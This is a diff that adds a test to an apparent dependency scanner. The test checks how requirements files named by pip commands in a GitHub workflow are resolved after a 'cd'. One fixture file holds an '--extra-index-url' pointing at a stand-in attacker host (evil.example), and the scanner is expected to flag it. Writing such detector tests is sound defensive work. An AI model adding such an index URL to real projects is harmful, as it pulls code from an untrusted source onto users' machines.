@@ -325,6 +325,34 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     ]);
   });
 
+  // The runner hands a step's `run: |` block to one shell: a `cd` on one of its lines moves the lines after it, and
+  // the next step starts again at the workspace.
+  it('read the file a CI block names after its own cd, and the next step’s from the root', async () => {
+    const workflow = [
+      'on: push',
+      'jobs:',
+      '  b:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - run: |',
+      '          cd sub',
+      '',
+      '          pip install -r reqs.lst',
+      '      - run: pip install -r reqs.lst',
+      '',
+    ].join('\n');
+    const dir = tree({
+      '.github/workflows/ci.yml': workflow,
+      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
+      'reqs.lst': 'flask>=2\n',
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
+      'CPP010@reqs.lst:1',
+      'CPP012@sub/reqs.lst:1',
+      'CPP070@sub/reqs.lst:1',
+    ]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
